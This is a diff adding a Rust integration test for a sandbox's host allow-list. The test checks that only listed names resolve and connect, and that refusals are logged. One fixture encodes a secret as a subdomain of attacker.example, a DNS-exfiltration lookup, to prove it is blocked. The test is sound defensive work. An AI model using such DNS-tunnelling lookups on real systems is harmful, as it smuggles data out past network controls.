@@ -471,3 +471,139 @@ fn sidecar_processes_name_the_domain_and_die_with_a_killed_coordinator() {
     let _ = session.kill();
     let _ = session.wait();
 }
+
+/// `allow_hosts` with `default = "deny"`: the sandbox resolves and reaches
+/// only listed names, through Lazaret's filtering resolver, which sends no
+/// other name upstream (the test hosts' DNS responder logs every query).
+#[test]
+fn allow_hosts_resolves_and_routes_only_listed_names() {
+    let env = require_env!();
+    let Some(net) = test_net() else { return };
+    let ws = env.workspace("net-hosts");
+    write_network(
+        &ws,
+        "default = \"deny\"\nallow_hosts = [\"svc.lazaret.test\", \"short.lazaret.test\", \"alias.lazaret.test\", \"private.lazaret.test\", \"*.pkg.lazaret.test:8081\"]",
+    );
+    let secret = "c2VjcmV0LWRhdGE";
+    let exfil = format!("{secret}.attacker.example");
+    let script = format!(
+        "{} && {} && {} && sleep 50 && {}",
+        py(
+            RESOLVE,
+            &[
+                "svc.lazaret.test",
+                "other.lazaret.test",
+                "alias.lazaret.test",
+                &exfil
+            ]
+        ),
+        py(
+            CONNECT,
+            &[
+                "svc.lazaret.test:8080",
+                "198.51.100.2:8080",
+                "private.lazaret.test:8080",
+                "reg.pkg.lazaret.test:8081",
+                "reg.pkg.lazaret.test:8080",
+            ]
+        ),
+        py(CONNECT, &["short.lazaret.test:8080"]),
+        py(CONNECT, &["198.51.100.2:8080"]),
+    );
+    let out = ws.run_sh_in(&net, &script);
+    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
+    let stdout = text(&out.stdout);
+    assert!(
+        stdout.contains("svc.lazaret.test ['198.51.100.1']"),
+        "an allowed name resolves: {stdout}"
+    );
+    for name in ["other.lazaret.test", "alias.lazaret.test", exfil.as_str()] {
+        assert!(
+            stdout.contains(&format!("{name} ERR")),
+            "{name} must not resolve: {stdout}"
+        );
+    }
+    let results: Vec<BTreeMap<String, String>> = stdout
+        .lines()
+        .filter(|l| l.starts_with('{'))
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(results.len(), 3, "{stdout}");
+    let first = &results[0];
+    assert_eq!(first["svc.lazaret.test:8080"], "OK SERVED-OK 198.51.100.1");
+    // An address literal no answer gave: refused.
+    refused(first, "198.51.100.2:8080");
+    // An allowed name whose answer is a private address: never routed.
+    refused(first, "private.lazaret.test:8080");
+    // A port-limited entry: its port only.
+    assert_eq!(
+        first["reg.pkg.lazaret.test:8081"],
+        "OK SERVED-OK 198.51.100.3"
+    );
+    refused(first, "reg.pkg.lazaret.test:8080");
+    // Resolved, the short-lived name connects; 50 s later (TTL 1, kept for
+    // the 30 s floor) its route is gone.
+    assert_eq!(
+        results[1]["short.lazaret.test:8080"],
+        "OK SERVED-OK 198.51.100.2"
+    );
+    refused(&results[2], "198.51.100.2:8080");
+
+    // Nothing not allowed reached the upstream resolver.
+    let asked = net.queries();
+    assert!(asked.iter().any(|q| q == "svc.lazaret.test"), "{asked:?}");
+    for q in &asked {
+        assert!(
+            !q.contains(secret) && q != "other.lazaret.test" && !q.ends_with("attacker.example"),
+            "{q} reached the upstream resolver: {asked:?}"
+        );
+    }
+
+    // The evidence: the allow-list and the refused lookups.
+    let v = net_show(&ws, &net);
+    assert_eq!(v["policy"]["hosts"]["allow"][0], "svc.lazaret.test", "{v}");
+    let log = ws
+        .lazaret_in(&net, &["net", "log", "--json"])
+        .output()
+        .unwrap();
+    assert!(log.status.success(), "net log: {}", text(&log.stderr));
+    let events: Vec<serde_json::Value> = text(&log.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let refused_names: Vec<&str> = events
+        .iter()
+        .filter(|e| e["event"] == "refused")
+        .filter_map(|e| e["name"].as_str())
+        .collect();
+    assert!(refused_names.contains(&"other.lazaret.test"), "{events:?}");
+    assert!(
+        refused_names.contains(&exfil.to_ascii_lowercase().as_str()),
+        "{events:?}"
+    );
+    assert!(
+        events.iter().any(|e| e["event"] == "refused"
+            && e["name"] == "alias.lazaret.test"
+            && e["cname"] == "target.elsewhere.test"),
+        "{events:?}"
+    );
+    assert!(
+        events
+            .iter()
+            .any(|e| e["event"] == "address_refused" && e["address"] == "10.99.0.1"),
+        "{events:?}"
+    );
+    assert!(
+        events
+            .iter()
+            .any(|e| e["event"] == "expired" && e["address"] == "198.51.100.2"),
+        "{events:?}"
+    );
+    let human = ws.lazaret_in(&net, &["net", "log"]).output().unwrap();
+    assert!(
+        text(&human.stdout).contains("other.lazaret.test"),
+        "{}",
+        text(&human.stdout)
+    );
+    assert_domain_gone(&ws.domain_id("default"));
+}
